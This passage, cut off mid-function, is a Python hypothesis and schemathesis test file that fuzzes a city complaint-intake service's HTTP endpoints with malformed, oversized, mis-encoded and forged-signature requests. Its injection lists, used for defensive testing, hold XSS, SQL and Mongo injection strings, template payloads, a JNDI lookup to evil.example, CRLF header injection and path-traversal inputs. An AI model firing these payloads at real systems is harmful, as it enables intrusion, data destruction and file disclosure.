"""Hostile input on intake's HTTP front: thousands of bad requests, every one answered clearly.

Malformed JSON, random bytes, oversized bodies, wrong or missing content types, text in
legacy or broken encodings, mis-signed webhooks, and fields laden with HTML, SQL, Mongo
operators, template syntax, CRLF and path traversal. Whatever arrives, intake answers
within a timeout with a status its OpenAPI document lists for the route:

* 2xx with tracking codes, and exactly the answered messages published (byte for byte);
* or 4xx naming the reason (``{"error": {"code", "message"}}``, Open311's
  ``[{code, description}]``), and nothing published.

The front is the one ``create_app`` builds (the same routes, ``FrontContext``, Open311 read
model and rate limits on the real database, and the platform's HTTP app), with an
in-memory publisher instead of Kafka, so that thousands of accepted messages do not flood
the raw topic; the path to Kafka is covered by test_intake_flow.py and
tests/integration/test_hostile_kafka.py.
Most requests go through the ASGI app in process; a sample goes over a real socket to
uvicorn, where schemathesis also runs the OpenAPI document against it.

``PHANANH_HOSTILE_EXAMPLES`` (default 250 per property) sets the size of the run, e.g.
``PHANANH_HOSTILE_EXAMPLES=5000 uv run pytest -s <this file>`` for a long manual run.
"""

from __future__ import annotations

import asyncio
import base64
import copy
import hashlib
import hmac
import json
import os
import re
import socket
import threading
import time
import uuid
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlencode

import httpx
import pytest
import requests
import schemathesis
import uvicorn
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from intake.adapters.http import build_routes
from intake.adapters.openapi import openapi_document
from intake.adapters.store import IntakeStore, OpenRequests
from intake.app import SERVICE, front_context, open311_services, rate_limiter
from intake.config import load_city_config
from intake.metrics import IntakeMetrics
from intake.settings import Settings
from phananh_contracts import RawChannelMessageReceivedEvent, RejectionReason
from phananh_contracts.examples import REPORT_RECEIVED, TRACKING_CODE
from phananh_platform.runtime import build_service
from phananh_platform.settings import MongoSettings
from pydantic import SecretStr
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_headers_conformance,
    response_schema_conformance,
    status_code_conformance,
)
from starlette.types import ASGIApp

from tests.support.vietnamese import to_cp1258

pytestmark = pytest.mark.integration

ROOT = Path(__file__).resolve().parents[5]
EXAMPLES = int(os.environ.get("PHANANH_HOSTILE_EXAMPLES", "250"))
"""Examples per property over the ASGI app; the socket and schemathesis runs take fewer."""
MAX_BODY = 20_000
"""``PHANANH_MAX_BODY_BYTES`` of the front under test (small: oversized bodies stay cheap)."""
TIMEOUT_S = 10.0
"""Every request is answered within this, or the test fails: no hang."""
HTTP_FIELD_VALUE = re.compile(rb"(?:[!-~\x80-\xff](?:[ \t!-~\x80-\xff]*[!-~\x80-\xff])?)?")
"""A header value an HTTP/1.1 client can send (RFC 9110 field-value)."""
TRACKING_CODE_RE = re.compile(r"^SL-[0-9]{4}-[0-9A-HJKMNP-TV-Z]{6}$")
SEED = "Hộ gia đình bán thịt lợn, cá tươi ngoài hành lang chợ Noong Đúc, tổ 8, lấn chiếm lối đi."
KEYS = {
    "app:sonla-smart": "app-key-hostile-0123456789",
    "web:cong-thong-tin": "web-key-hostile-0123456789",
    "hotline:tong-dai": "hotline-key-hostile-012345",
    "email:relay": "email-key-hostile-01234567",
    "collaborator:mang-luoi-ctv": "ctv-key-hostile-0123456789",
    "open311:clients": "o311-key-hostile-012345678",
}
ZALO_APP_ID, ZALO_SECRET = "zalo-app-hostile", "zalo-oa-secret-hostile-0123"
FB_SECRET, FB_TOKEN = "fb-app-secret-hostile-0123", "fb-verify-token-hostile"
LIMITS = {
    scope: {"requests": 1_000_000, "window_s": 60} for scope in ("api_key", "sender", "client_ip")
}
"""Rate limits on, and counted in the database, but high enough for thousands of requests
from the same few clients and senders (tests/adapters/http/test_intake_rate_limits.py
holds the front to its limits)."""
DOCUMENT = openapi_document()
OUTCOMES: Counter[str] = Counter()
"""``<transport> <method> <route> <status> <code>`` -> count, printed at the end."""

SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.function_scoped_fixture,
    ],
)

# --- the front under test --------------------------------------------------------------


class RecordingPublisher:
    """The front's ``RawPublisher``, keeping what Kafka would have acknowledged."""

    def __init__(self) -> None:
        self.events: list[RawChannelMessageReceivedEvent] = []

    async def publish_raw(self, event: RawChannelMessageReceivedEvent) -> None:
        self.events.append(event)


@dataclass
class Front:
    http: httpx.AsyncClient
    publisher: RecordingPublisher
    transport: str


def front_settings(mongodb_url: str) -> Settings:
    return Settings(
        mongodb=MongoSettings(url=SecretStr(mongodb_url), database=f"test_{uuid.uuid4().hex[:12]}"),
        city_config=ROOT / "config" / "son-la" / "city.yaml",
        tracking_secret=SecretStr("tracking-secret-for-hostile-tests-0123"),
        contact_keys=[SecretStr(base64.urlsafe_b64encode(b"k" * 32).decode())],
        pseudonym_key=SecretStr("pseudonym-key-for-hostile-tests-0123"),
        api_keys={name: SecretStr(key) for name, key in KEYS.items()},
        zalo={"app_id": ZALO_APP_ID, "oa_secret": ZALO_SECRET},
        facebook={"app_secret": FB_SECRET, "verify_token": FB_TOKEN},
        max_body_bytes=MAX_BODY,
        rate_limits=LIMITS,
    )


async def build_front(mongodb_url: str) -> tuple[ASGIApp, RecordingPublisher]:
    """Intake's HTTP app as ``create_app`` wires it, publishing to memory (see above)."""
    settings = front_settings(mongodb_url)
    config = load_city_config(settings.city_config)
    service = build_service(SERVICE, settings, uses_database=True)
    assert service.mongo is not None
    database = service.mongo[settings.mongodb.database]
    store = IntakeStore(database)
    await store.ensure_indexes()
    await store.save(reports=[REPORT_RECEIVED.data], rejections=[], appends={})
    limiter = rate_limiter(settings, database, IntakeMetrics(service.registry))
    await limiter.store.ensure_indexes()
    publisher = RecordingPublisher()
    services = open311_services(config)
    front = front_context(
        settings,
        config,
        publisher=publisher,
        requests=OpenRequests(store, {s.service_code: s.service_name for s in services}),
        limiter=limiter,
    )
    service.routes.extend(build_routes(front))
    return service.asgi(), publisher


@pytest.fixture(scope="module")
async def front(mongodb_url: str) -> AsyncIterator[Front]:
    app, publisher = await build_front(mongodb_url)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://intake") as http:
        yield Front(http, publisher, "asgi")
    print_outcomes()


@dataclass
class Served:
    """Intake's front on a real local port, run by uvicorn in a thread of its own."""

    url: str
    publisher: RecordingPublisher
    server: uvicorn.Server
    thread: threading.Thread


@pytest.fixture(scope="module")
def served(mongodb_url: str) -> Iterator[Served]:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    built: dict[str, Any] = {}

    async def serve() -> None:  # the database client lives on this thread's loop
        app, built["publisher"] = await build_front(mongodb_url)
        config = uvicorn.Config(
            app, host="127.0.0.1", port=port, lifespan="off", log_config=None, access_log=False
        )
        built["server"] = server = uvicorn.Server(config)
        await server.serve()

    thread = threading.Thread(target=lambda: asyncio.run(serve()), daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not (built.get("server") and built["server"].started):
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    yield Served(f"http://127.0.0.1:{port}", built["publisher"], built["server"], thread)
    built["server"].should_exit = True
    thread.join(timeout=10)


@pytest.fixture(scope="module")
async def socket_front(served: Served) -> AsyncIterator[Front]:
    async with httpx.AsyncClient(base_url=served.url) as http:
        yield Front(http, served.publisher, "socket")


def print_outcomes() -> None:
    print(f"\nhostile HTTP requests: {sum(OUTCOMES.values())}")
    for outcome, count in sorted(OUTCOMES.items()):
        print(f"  {count:6d}  {outcome}")


# --- what every answer must be ---------------------------------------------------------


@dataclass(frozen=True)
class Hostile:
    """One request to send."""

    method: str
    path: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    streamed: bool = False
    """Send the body chunked, without Content-Length."""

    def __repr__(self) -> str:  # bodies run to megabytes; failures show their start
        body = self.body if len(self.body) <= 300 else self.body[:300] + b"..."
        head = f"{self.method!r}, {self.path[:300]!r}, {self.headers!r}"
        return f"Hostile({head}, {body!r}, streamed={self.streamed})"


def _template(path: str) -> re.Pattern[str]:
    parts = re.split(r"(\{[^}]+\})", path)
    return re.compile("".join("[^/]+" if p.startswith("{") else re.escape(p) for p in parts))


OPERATIONS = [
    (method.upper(), path, _template(path), operation)
    for path, operations in DOCUMENT["paths"].items()
    for method, operation in operations.items()
]


def documented(method: str, path: str) -> dict[str, Any]:
    """The responses the OpenAPI document lists for this request ({} if none matches)."""
    target = unquote(path.partition("?")[0])
    for verb, _, pattern, operation in OPERATIONS:
        if verb == method and pattern.fullmatch(target):
            return dict(operation["responses"])
    return {}


def error_codes(answer: dict[str, Any]) -> list[str]:
    schema = answer["content"]["application/json"]["schema"]
    return list(schema["properties"]["error"]["properties"]["code"]["enum"])


async def exercise(front: Front, request: Hostile) -> httpx.Response:
    """Send ``request``; assert the answer is clear, documented and timely."""
    headers = {name: value.encode("latin-1") for name, value in request.headers.items()}
    if front.transport == "socket":  # an HTTP client cannot send these at all
        assume(all(HTTP_FIELD_VALUE.fullmatch(value) for value in headers.values()))
    before = len(front.publisher.events)
    content: Any = request.body
    if request.streamed:
        chunks = [request.body[i : i + 4096] for i in range(0, len(request.body), 4096)]

        async def stream() -> AsyncIterator[bytes]:
            for chunk in chunks:
                yield chunk

        content = stream()
    try:
        response = await asyncio.wait_for(
            front.http.request(request.method, request.path, headers=headers, content=content),
            TIMEOUT_S,
        )
    except TimeoutError:
        pytest.fail(f"no answer within {TIMEOUT_S}s: {request.method} {request.path}")
    published = front.publisher.events[before:]
    code = check_answer(request, response, published)
    route = request.path.partition("?")[0]
    route = route if route.startswith("/channels/") else re.sub(r"/v2/.*", "/v2/…", route)
    OUTCOMES[f"{front.transport} {request.method} {route} {response.status_code} {code}"] += 1
    return response


def check_answer(
    request: Hostile, response: httpx.Response, published: list[RawChannelMessageReceivedEvent]
) -> str:
    """The reason the answer gives; fails unless it is one the document lists."""
    status, what = response.status_code, f"{request.method} {request.path[:120]}"
    assert status < 500, f"{what}: {status} {response.text[:300]}"
    responses = documented(request.method, request.path)
    if not responses and request.path.startswith("/open311/v2/"):
        responses = {"404": {}}  # a path no route matches: Starlette's own 404
    assert str(status) in responses, f"{what}: {status} is not documented ({sorted(responses)})"
    if request.path.startswith("/open311/"):
        return check_open311(request, response, published)
    if request.path.startswith("/channels/facebook/") and request.method == "GET":
        assert published == []
        return "challenge" if status == 200 else response.json()["error"]["code"]
    if status >= 400:
        error = response.json()["error"]
        assert error["code"] in error_codes(responses[str(status)]), f"{what}: {error}"
        assert error["message"].strip(), f"{what}: {error}"
        assert published == [], f"{what}: refused ({status}) but published"
        return str(error["code"])
    answer = response.json()
    codes = answer["tracking_codes"]
    assert all(TRACKING_CODE_RE.fullmatch(code) for code in codes), answer
    if status == 202:
        assert answer["status"] == "accepted" and codes, answer
        (event,) = published
        assert event.data.channel_message_id == answer["channel_message_id"]
        data = event.data
        kept = base64.b64decode(data.body) if data.body_encoding == "base64" else data.body.encode()
        assert kept == request.body, f"{what}: the body was not kept as sent"
        return "accepted"
    assert answer["status"] in ("accepted", "ignored"), answer
    # Messages of a sender over its limit are published marked, to be recorded as rejected,
    # and answered as ignored (rate_limited); every other published one is accepted.
    limited = [e for e in published if e.data.rejection_reason == RejectionReason.RATE_LIMITED]
    accepted = [e for e in published if e.data.rejection_reason is None]
    assert len(accepted) + len(limited) == len(published), answer
    assert [e.data.channel_message_id for e in accepted] == answer["channel_message_ids"]
    assert len(codes) == len(accepted) and (published or answer["ignored"]), answer
    rate_limited = [item for item in answer["ignored"] if item["reason"] == "rate_limited"]
    assert len(rate_limited) == len(limited), answer
    reasons = {item["reason"] for item in answer["ignored"]}
    assert reasons <= {reason.value for reason in RejectionReason}
    assert all(item["detail"] for item in answer["ignored"])
    return f"{answer['status']}{sorted(reasons) if reasons else ''}"


def check_open311(
    request: Hostile, response: httpx.Response, published: list[RawChannelMessageReceivedEvent]
) -> str:
    status, what = response.status_code, f"{request.method} {request.path[:120]}"
    media = response.headers.get("content-type", "")
    if status >= 400:
        assert published == [], f"{what}: refused ({status}) but published"
        if media.startswith("application/json"):
            [error] = response.json()
            assert error["code"] == status and error["description"].strip(), error
        elif media.startswith("text/xml"):
            error = ET.fromstring(response.content).find("error")
            assert error is not None and error.findtext("code") == str(status)
            assert (error.findtext("description") or "").strip()
        else:
            assert status == 404 and media.startswith("text/plain"), f"{what}: {media}"
        return "error"
    if request.method == "POST":
        assert len(published) == 1
        if media.startswith("application/json"):
            [receipt] = response.json()
            assert TRACKING_CODE_RE.fullmatch(receipt["service_request_id"])
        return "accepted"
    assert published == []
    return "found"


# --- hostile values --------------------------------------------------------------------

INJECTIONS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "' OR '1'='1'; DROP TABLE reports; --",
    "1; SELECT pg_sleep(10)",
    '{"$where": "sleep(10000)"}',
    '{"$ne": null}',
    "$where",
    "{{7*7}}{{config.items()}}",
    "{% for x in range(99999999) %}x{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7} <%= 7*7 %>",
    "\r\nX-Injected: 1\r\n\r\n<html>",
    "%0d%0aSet-Cookie:%20session=stolen",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "file:///etc/passwd",
    "\x00",
    "NUL\x00inside",
    "\u202egnp.exe",
    "\u200f\u200e\u2066\u2069",
    "\ufeffBOM",
    "Chie\u0300ng Sinh",
    "𝕊ơn La 🚨🔥",
    "A" * 5000,
    "\\u0000\\ud800",
]
"""Strings an attacker sends in any text field: they must be kept as data, never run."""

HOSTILE_KEYS = ["$where", "$gt", "$ne", "$set", "a.b", "__proto__", "constructor", "_id", "$"]

hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=200),
    st.text(st.characters(categories=["Cc", "Cf", "Co", "Zl", "Zp"]), max_size=40),
    st.builds(
        lambda a, b, c: a + b + c,
        st.text(max_size=20),
        st.sampled_from(INJECTIONS),
        st.text(max_size=20),
    ),
)
hostile_keys = st.one_of(st.sampled_from(HOSTILE_KEYS), st.text(max_size=30))
json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False)
    | hostile_text,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(hostile_keys, children, max_size=4)
    ),
    max_leaves=12,
)

APP_REPORT: dict[str, Any] = {
    "client_message_id": "3f1c9a52-7d4e-4b8a-9f0e-2c6d1b7a8e90",
    "text": SEED,
    "title": "Lấn chiếm hành lang chợ",
    "category": "urban_order",
    "location": {"lat": 21.3035, "lon": 103.9472, "address": "Chợ Noong Đúc"},
    "ward": "Chiềng Sinh",
    "photos": ["https://media.sonla.example/u/8841/cho.jpg"],
    "contact": {"name": "Lò Văn Minh", "phone": "0912345678", "email": "minh@example.vn"},
    "anonymous": False,
    "consent": True,
    "reply_to": "SL-2303-7KQ4M9",
}
WEB_REPORT: dict[str, Any] = {
    "text": SEED,
    "title": "Lấn chiếm",
    "name": "Lò Văn Minh",
    "phone": "0912345678",
    "email": "minh@example.vn",
    "ward": "Chiềng Sinh",
    "address": "Chợ Noong Đúc, tổ 8",
    "anonymous": False,
}
HOTLINE_TICKET: dict[str, Any] = {
    "ticket_id": "HL-20260314-0042",
    "caller_number": "0212 3852 114",
    "caller_name": "Cầm Văn Thanh",
    "summary": SEED,
    "urgent": True,
    "address": "Tổ 8",
    "ward": "Chiềng Sinh",
    "operator_id": "dtv-07",
    "call_started_at": "2026-03-14T08:05:00+07:00",
}
COLLABORATOR_REPORT: dict[str, Any] = {
    "collaborator_id": "ctv-chieng-sinh-08",
    "kind": "periodic_summary",
    "report_id": "BC-2026-03-CS08",
    "period": {"from": "2026-03-01", "to": "2026-03-15"},
    "items": [
        {"text": SEED, "ward": "Chiềng Sinh", "category": "urban_order", "lat": 21.3, "lon": 103.9}
    ],
}
JSON_ROUTES: dict[str, tuple[str, dict[str, Any]]] = {
    "/channels/app/reports": ("app:sonla-smart", APP_REPORT),
    "/channels/web/reports": ("web:cong-thong-tin", WEB_REPORT),
    "/channels/hotline/tickets": ("hotline:tong-dai", HOTLINE_TICKET),
    "/channels/collaborators/reports": ("collaborator:mang-luoi-ctv", COLLABORATOR_REPORT),
}
EMAIL_PATH = "/channels/email/messages"
ZALO_PATH = "/channels/zalo/webhook"
FACEBOOK_PATH = "/channels/facebook/webhook"
OPEN311_POST = "/open311/v2/requests.json"
POST_ROUTES = [*JSON_ROUTES, EMAIL_PATH, ZALO_PATH, FACEBOOK_PATH, OPEN311_POST]
CONTENT_TYPES = [
    None,
    "",
    "application/json",
    "application/json; charset=utf-8",
    "APPLICATION/JSON; charset=latin-1",
    "application/x-www-form-urlencoded",
    "message/rfc822",
    "text/plain",
    "text/html; charset=windows-1258",
    "application/xml",
    "multipart/form-data; boundary=x",
    "application/octet-stream",
    "application/json, text/plain",
    "json",
    ";;;",
]


def zalo_event(**message: Any) -> dict[str, Any]:
    return {
        "app_id": ZALO_APP_ID,
        "user_id_by_app": "552177279717587730",
        "event_name": "user_send_text",
        "timestamp": "1679900000000",
        "sender": {"id": "246845883529197922"},
        "recipient": {"id": "388613280878808645"},
        "message": {"msg_id": "96d3cdf3af150460909", "text": SEED, **message},
    }


def facebook_batch(text: str = SEED) -> dict[str, Any]:
    messaging = {
        "sender": {"id": "psid-1"},
        "recipient": {"id": "page-1"},
        "timestamp": 1679900000000,
        "message": {"mid": "m_hostile", "text": text},
    }
    comment = {
        "field": "feed",
        "value": {
            "item": "comment",
            "verb": "add",
            "comment_id": "c_1",
            "post_id": "p_1",
            "message": text,
            "from": {"id": "user-9", "name": "Lò Thị Hoa"},
        },
    }
    return {
        "object": "page",
        "entry": [{"id": "page-1", "time": 1, "messaging": [messaging], "changes": [comment]}],
    }


def zalo_timestamp(body: bytes) -> str | None:
    """The ``timestamp`` Zalo signs with the body: a string field of the JSON object."""
    try:
        found = json.loads(body).get("timestamp")
        if isinstance(found, str):
            found.encode()  # a lone surrogate cannot be signed
            return found
    except (ValueError, AttributeError, RecursionError, UnicodeEncodeError):
        pass
    return None


def zalo_signature(body: bytes, secret: str = ZALO_SECRET) -> str:
    timestamp = (zalo_timestamp(body) or "").encode()
    return (
        "mac="
        + hashlib.sha256(ZALO_APP_ID.encode() + body + timestamp + secret.encode()).hexdigest()
    )


def facebook_signature(body: bytes, secret: str = FB_SECRET) -> str:
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


def auth(client: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {KEYS[client]}"}


def encode(text: str, how: str) -> bytes:
    """``text`` as a client with a broken or legacy stack sends it."""
    match how:
        case "utf-8":
            return text.encode("utf-8", "surrogatepass")
        case "windows-1258":
            try:
                return to_cp1258(text)
            except (StopIteration, UnicodeEncodeError):  # no windows-1258 form: replaced
                return text.encode("cp1258", "replace")
        case "latin-1":
            return text.encode("latin-1", "replace")
        case "utf-16":
            return text.encode("utf-16", "surrogatepass")
        case "invalid utf-8":
            raw = text.encode("utf-8", "surrogatepass")
            return raw[: len(raw) // 2] + b"\xc3\x28\xff\xfe" + raw[len(raw) // 2 :]
    return text.encode("utf-8", "surrogatepass") + b"\x00" * 3


ENCODINGS = ["utf-8", "windows-1258", "latin-1", "utf-16", "invalid utf-8", "utf-8 with NULs"]


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any]) -> dict[str, Any]:
    """``base`` with 1-4 fields replaced, removed, or added under hostile keys."""
    payload = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, 4))):
        action = draw(st.sampled_from(["replace", "text", "delete", "add", "nest"]))
        key = draw(st.sampled_from(sorted(payload))) if payload else "text"
        if action == "replace":
            payload[key] = draw(json_values)
        elif action == "text":
            payload[key] = draw(hostile_text)
        elif action == "delete":
            payload.pop(key, None)
        elif action == "add":
            payload[draw(hostile_keys)] = draw(json_values)
        else:
            payload[key] = {draw(st.sampled_from(HOSTILE_KEYS)): draw(json_values)}
    return payload


def json_bytes(payload: Any, draw: st.DrawFn) -> bytes:
    text = json.dumps(payload, ensure_ascii=draw(st.booleans()))
    return encode(text, draw(st.sampled_from(ENCODINGS)))


# --- request strategies ----------------------------------------------------------------


@st.composite
def malformed_json(draw: st.DrawFn) -> Hostile:
    """A JSON channel's payload, mutated, re-typed, truncated or mis-encoded."""
    path = draw(st.sampled_from(sorted(JSON_ROUTES)))
    client, base = JSON_ROUTES[path]
    kind = draw(st.sampled_from(["mutated", "any json", "truncated", "deep"]))
    if kind == "mutated":
        body = json_bytes(draw(mutated(base)), draw)
    elif kind == "any json":
        body = json_bytes(draw(json_values), draw)
    elif kind == "truncated":
        full = json.dumps(base, ensure_ascii=False).encode()
        body = full[: draw(st.integers(0, len(full) - 1))]
    else:  # nesting deep enough to trouble a recursive parser
        depth = draw(st.integers(100, 5000))
        body = (
            b"[" * depth + b"]" * depth
            if draw(st.booleans())
            else b'{"a":' * depth + b"1" + b"}" * depth
        )
    headers = {**auth(client), "Content-Type": "application/json"}
    return Hostile("POST", path, headers, body)


@st.composite
def random_bytes(draw: st.DrawFn) -> Hostile:
    """Random bytes, any content type (or none), right or wrong key, on any POST route."""
    path = draw(st.sampled_from(POST_ROUTES))
    headers: dict[str, str] = {}
    if path in JSON_ROUTES or path == EMAIL_PATH:
        client = JSON_ROUTES[path][0] if path in JSON_ROUTES else "email:relay"
        choice = draw(st.sampled_from([client, "app:sonla-smart", "open311:clients", None]))
        if choice is not None:
            headers |= {"X-Api-Key": KEYS[choice]}
    content_type = draw(st.sampled_from(CONTENT_TYPES))
    if content_type is not None:
        headers["Content-Type"] = content_type
    body = draw(st.binary(max_size=3000))
    if path == ZALO_PATH and draw(st.booleans()):
        headers["X-ZEvent-Signature"] = zalo_signature(body)
    if path == FACEBOOK_PATH and draw(st.booleans()):
        headers["X-Hub-Signature-256"] = facebook_signature(body)
    if path == OPEN311_POST and draw(st.booleans()):
        body = f"api_key={KEYS['open311:clients']}&".encode() + body
    return Hostile("POST", path, headers, body)


@st.composite
def oversized(draw: st.DrawFn) -> Hostile:
    """A body above ``PHANANH_MAX_BODY_BYTES``, declared or streamed without a length."""
    path = draw(st.sampled_from(POST_ROUTES))
    size = MAX_BODY + draw(st.integers(1, 3000))
    body = draw(st.sampled_from([b"a", b'{"text": "', b"\xff", "ệ".encode()])) * size
    client = JSON_ROUTES[path][0] if path in JSON_ROUTES else "email:relay"
    media = {EMAIL_PATH: "message/rfc822", OPEN311_POST: "application/x-www-form-urlencoded"}
    headers = {**auth(client), "Content-Type": media.get(path, "application/json")}
    if path == ZALO_PATH:
        headers["X-ZEvent-Signature"] = zalo_signature(body)
    if path == FACEBOOK_PATH:
        headers["X-Hub-Signature-256"] = facebook_signature(body)
    return Hostile("POST", path, headers, body[:size], streamed=draw(st.booleans()))


@st.composite
def mis_encoded(draw: st.DrawFn) -> Hostile:
    """A valid payload whose text is mis-encoded: legacy charsets, broken UTF-8, NULs, RTL."""
    path = draw(st.sampled_from([*sorted(JSON_ROUTES), "web form", OPEN311_POST, EMAIL_PATH]))
    text = SEED + draw(
        st.sampled_from(["", "\u202e", "\x00", "\ud800", "\u200f", "\ufeff", "\udcff"])
    )
    how = draw(st.sampled_from(ENCODINGS))
    if path == "web form":
        form = urlencode({"text": text.encode("utf-8", "surrogatepass"), "ward": "Chiềng Sinh"})
        body = (
            encode(form, how) if draw(st.booleans()) else form.encode().replace(b"%E1%BB", b"%E1")
        )
        headers = {
            **auth("web:cong-thong-tin"),
            "Content-Type": "application/x-www-form-urlencoded",
        }
        return Hostile("POST", "/channels/web/reports", headers, body)
    if path == OPEN311_POST:
        fields = {
            "api_key": KEYS["open311:clients"],
            "service_code": "urban_order",
            "lat": "21.3",
            "long": "103.9",
        }
        form = (
            urlencode(fields)
            + "&description="
            + draw(st.sampled_from(["%ED%A0%80", "%FF%FE", "%C3%28", "%00"]))
        )
        body = encode(form + urlencode({"x": text.encode("utf-8", "surrogatepass")}), how)
        return Hostile("POST", path, {"Content-Type": "application/x-www-form-urlencoded"}, body)
    if path == EMAIL_PATH:
        charset = draw(st.sampled_from(["utf-8", "windows-1258", "viscii", "x-unknown", "utf-16"]))
        subject = base64.b64encode(encode(text, how)).decode()
        head = f"Message-ID: <{uuid.uuid4()}@hostile.example>\r\n"
        head += f"Subject: =?{charset}?B?{subject}?=\r\n"
        mail = (
            head.encode()
            + f"Content-Type: text/plain; charset={charset}\r\n\r\n".encode()
            + encode(text, how)
        )
        headers = {**auth("email:relay"), "Content-Type": "message/rfc822"}
        return Hostile("POST", path, headers, mail)
    client, base = JSON_ROUTES[path]
    payload = copy.deepcopy(base)
    for key in ("text", "summary"):
        if key in payload:
            payload[key] = text
    if "items" in payload:
        payload["items"][0]["text"] = text
    body = encode(json.dumps(payload, ensure_ascii=draw(st.booleans())), how)
    return Hostile("POST", path, {**auth(client), "Content-Type": "application/json"}, body)


@st.composite
def mis_signed(draw: st.DrawFn) -> Hostile:
    """A Zalo or Facebook webhook whose signature is missing, forged or for other bytes."""
    zalo = draw(st.booleans())
    payload = zalo_event() if zalo else facebook_batch()
    if draw(st.booleans()):
        payload = draw(mutated(payload))
    body = json_bytes(payload, draw)
    sign = zalo_signature if zalo else facebook_signature
    forged = draw(
        st.sampled_from(
            ["none", "random", "other body", "other secret", "scheme", "truncated", "blank"]
        )
    )
    value = {
        "random": draw(st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=80)),
        "other body": sign(body + b" "),
        "other secret": sign(body, "not-the-secret-0123456789"),
        "scheme": "sha1=" + sign(body).partition("=")[2],
        "truncated": sign(body)[:-1],
        "blank": "",
    }.get(forged)
    headers = {"Content-Type": "application/json"}
    if value is not None:
        headers["X-ZEvent-Signature" if zalo else "X-Hub-Signature-256"] = value
    return Hostile("POST", ZALO_PATH if zalo else FACEBOOK_PATH, headers, body)


@st.composite
def signed_hostile_webhook(draw: st.DrawFn) -> Hostile:
    """A correctly signed webhook whose JSON is hostile: 200 (accepted or ignored), never 4xx."""
    zalo = draw(st.booleans())
    base = zalo_event(text=draw(hostile_text)) if zalo else facebook_batch(draw(hostile_text))
    payload = draw(st.one_of(st.just(base), mutated(base), json_values))
    body = json_bytes(payload, draw) if draw(st.booleans()) else json.dumps(payload).encode()
    if zalo:
        return Hostile("POST", ZALO_PATH, {"X-ZEvent-Signature": zalo_signature(body)}, body)
    return Hostile("POST", FACEBOOK_PATH, {"X-Hub-Signature-256": facebook_signature(body)}, body)


@st.composite
def injection_laden(draw: st.DrawFn) -> Hostile:
    """A valid report whose every text field carries an injection: data, never instructions."""
    path = draw(st.sampled_from([*sorted(JSON_ROUTES), "web form"]))
    injection = draw(st.sampled_from(INJECTIONS))
    if path == "web form":
        form = {
            key: f"{value} {injection}" for key, value in WEB_REPORT.items() if key != "anonymous"
        }
        headers = {
            **auth("web:cong-thong-tin"),
            "Content-Type": "application/x-www-form-urlencoded",
        }
        headers["Idempotency-Key"] = draw(
            st.sampled_from(["../../etc/passwd", "$where", "{{7*7}}", "a.b"])
        )
        return Hostile("POST", "/channels/web/reports", headers, urlencode(form).encode())
    client, base = JSON_ROUTES[path]

    def laden(value: Any) -> Any:
        if isinstance(value, str):
            return f"{value} {injection}"
        if isinstance(value, dict):
            return {key: laden(item) for key, item in value.items()}
        if isinstance(value, list):
            return [laden(item) for item in value]
        return value

    payload = laden(base) if draw(st.booleans()) else {**base, "text": f"{SEED} {injection}"}
    for key in ("client_message_id", "ticket_id", "report_id"):
        if key in payload:  # ids with traversal and operators are data too
            payload[key] = draw(
                st.sampled_from(["../../etc/passwd", "$where", "a.b", "..%2F..", "{$ne:1}"])
            )
    payload[draw(st.sampled_from(HOSTILE_KEYS))] = {"$where": "sleep(10000)"}
    body = json.dumps(payload, ensure_ascii=draw(st.booleans())).encode("utf-8", "surrogatepass")
    return Hostile("POST", path, {**auth(client), "Content-Type": "application/json"}, body)


@st.composite
def hostile_headers(draw: st.DrawFn) -> Hostile:
    """Credentials and idempotency keys that are garbage, overlong, CRLF-laden or not ASCII."""
    garbage = st.one_of(
        st.sampled_from(
            [
                "",
                " ",
                "Bearer",
                "Bearer ",
                "Basic YWRtaW46YWRtaW4=",
                "Bearer \x00",
                "Bearer " + "k" * 10_000,
            ]
        ),
        st.sampled_from(
            [
                f"Bearer {KEYS['app:sonla-smart']}\r\nX-Api-Key: x",
                f"bearer {KEYS['app:sonla-smart']}",
            ]
        ),
        st.text(st.characters(min_codepoint=1, max_codepoint=255), max_size=300),
    )
    path = draw(st.sampled_from(["/channels/app/reports", "/channels/web/reports"]))
    headers = {"Authorization": draw(garbage), "Content-Type": "application/json"}
    if draw(st.booleans()):
        headers = {**auth("web:cong-thong-tin"), "Content-Type": "application/json"}
        path = "/channels/web/reports"
        headers["Idempotency-Key"] = draw(garbage)
    return Hostile("POST", path, headers, json.dumps(WEB_REPORT | APP_REPORT).encode())


@st.composite
def open311_hostile(draw: st.DrawFn) -> Hostile:
    """Open311 lookups and posts with injection in queries, ids, forms and formats."""
    value = draw(st.one_of(hostile_text, st.sampled_from([TRACKING_CODE, "SL-2303-7KQ4M9,$where"])))
    segment = draw(
        st.sampled_from([TRACKING_CODE, "..%2F..%2Fetc%2Fpasswd", "%00", "%24where", "a.b"])
    )
    fmt = draw(st.sampled_from(["json", "xml", "json%00", "html", "JSON", "php"]))
    kind = draw(st.sampled_from(["search", "one", "token", "service", "post", "handshake"]))
    quoted = urlencode({"v": value.encode("utf-8", "surrogatepass")})[2:]
